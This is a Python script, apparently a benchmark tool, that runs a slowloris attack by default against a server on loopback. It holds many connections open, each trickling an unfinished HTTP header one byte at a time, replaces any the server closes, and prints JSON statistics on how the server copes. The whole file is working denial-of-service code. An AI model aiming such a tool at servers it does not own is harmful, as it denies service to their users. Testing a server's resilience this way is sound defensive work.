#!/usr/bin/env python3
"""slowloris.py: holds N loopback connections that send a request's headers one byte at a time.

Usage: slowloris.py --port P [--host 127.0.0.1] [--conns N] [--interval S] [--duration S]
                    [--status FILE]

Each connection sends one byte of a never-ending header block ("GET / HTTP/1.1\\r\\nHost: ...
\\r\\nX-Slow: aaaa...", no blank line ever) at connect and then one byte every --interval
seconds (default 5). A connection the server closes before we stop (EOF, reset, or an answer such as 408
followed by a close) is counted as closed by the server and replaced by a new one, so that N stay
open, as a real attacker would do. Connections are opened in batches of 50 (the listen backlog).
Runs for --duration seconds (default: until SIGTERM/SIGINT), then prints one JSON line:
  conns, opened, closed_by_server, answered (closed after sending some bytes back),
  connect_failed, open_now, min_open_after_ramp, first_close_s, last_close_s, seconds
and, every second, writes "open=N opened=N closed_by_server=N" to --status FILE (if given).
Raises its own soft RLIMIT_NOFILE to fit N. Python standard library only (for bench/slowloris.sh).
"""

import argparse
import asyncio
import json
import resource
import signal
import time

PREFIX = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "


def header_byte(i):
    return PREFIX[i:i + 1] if i < len(PREFIX) else b"a"


class Loris:
    def __init__(self, args):
        self.args = args
        self.stats = {"conns": args.conns, "opened": 0, "closed_by_server": 0, "answered": 0,
                      "connect_failed": 0, "open_now": 0, "min_open_after_ramp": None,
                      "first_close_s": None, "last_close_s": None}
        self.start = time.monotonic()
        self.stopping = asyncio.Event()
        self.ramped = False

    def elapsed(self):
        return round(time.monotonic() - self.start, 2)

    async def one(self):
        """One slow connection, until the server closes it or we stop; True if the server did."""
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(self.args.host, self.args.port), timeout=10)
        except (OSError, asyncio.TimeoutError):
            self.stats["connect_failed"] += 1
            await asyncio.sleep(0.2)
            return False
        self.stats["opened"] += 1
        self.stats["open_now"] += 1
        closed_by_server = False
        got_bytes = False
        sent = 0
        read = None
        try:
            read = asyncio.ensure_future(reader.read(4096))
            while not self.stopping.is_set():
                writer.write(header_byte(sent))
                sent += 1
                await writer.drain()
                done, _ = await asyncio.wait({read, self.stop_wait}, timeout=self.args.interval,
                                             return_when=asyncio.FIRST_COMPLETED)
                if read in done and not self.stopping.is_set():
                    data = read.result()
                    if not data:
                        closed_by_server = True
                        break
                    got_bytes = True  # an answer (e.g. 408): keep reading until the close
                    read = asyncio.ensure_future(reader.read(4096))
        except (OSError, ConnectionError):
            closed_by_server = not self.stopping.is_set()
        finally:
            if read is not None and not read.done():
                read.cancel()
            self.stats["open_now"] -= 1
            writer.close()
        if closed_by_server:
            self.stats["closed_by_server"] += 1
            self.stats["answered"] += got_bytes
            now = self.elapsed()
            if self.stats["first_close_s"] is None:
                self.stats["first_close_s"] = now
            self.stats["last_close_s"] = now
        return closed_by_server

    async def slot(self):
        while not self.stopping.is_set():
            await self.one()

    async def status(self):
        while not self.stopping.is_set():
            if self.ramped:
                low = self.stats["min_open_after_ramp"]
                now = self.stats["open_now"]
                self.stats["min_open_after_ramp"] = now if low is None else min(low, now)
            if self.args.status:
                with open(self.args.status, "w") as f:
                    f.write("open=%d opened=%d closed_by_server=%d ramped=%d\n" % (
                        self.stats["open_now"], self.stats["opened"],
                        self.stats["closed_by_server"], self.ramped))
            try:
                await asyncio.wait_for(self.stopping.wait(), timeout=1)
            except asyncio.TimeoutError:
                pass

    async def run(self):
        loop = asyncio.get_running_loop()
        for sig in (signal.SIGTERM, signal.SIGINT):
            loop.add_signal_handler(sig, self.stopping.set)
        self.stop_wait = asyncio.ensure_future(self.stopping.wait())
        tasks = [asyncio.ensure_future(self.status())]
        for i in range(self.args.conns):
            tasks.append(asyncio.ensure_future(self.slot()))
            if i % 50 == 49:
                await asyncio.sleep(0.05)
        for _ in range(200):  # up to 10 s for the ramp
            if self.stats["open_now"] >= self.args.conns or self.stopping.is_set():
                break
            await asyncio.sleep(0.05)
        self.ramped = True
        self.stats["ramp_s"] = self.elapsed()
        if self.args.duration > 0:
            try:
                await asyncio.wait_for(self.stopping.wait(), timeout=self.args.duration)
            except asyncio.TimeoutError:
                pass
        else:
            await self.stopping.wait()
        self.stopping.set()
        await asyncio.wait(tasks, timeout=self.args.interval + 2)
        for t in tasks:
            t.cancel()
        self.stats["seconds"] = self.elapsed()
        print(json.dumps(self.stats, sort_keys=True), flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--conns", type=int, default=1000)
    parser.add_argument("--interval", type=float, default=5.0)
    parser.add_argument("--duration", type=float, default=0)
    parser.add_argument("--status")
    args = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.conns + 64
    if soft != resource.RLIM_INFINITY and soft < want:
        new = want if hard == resource.RLIM_INFINITY else min(want, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (new, hard))
        if new < want:
            parser.error("RLIMIT_NOFILE hard limit %d is below the %d descriptors needed" % (hard, want))
    asyncio.run(Loris(args).run())


if __name__ == "__main__":
    main()
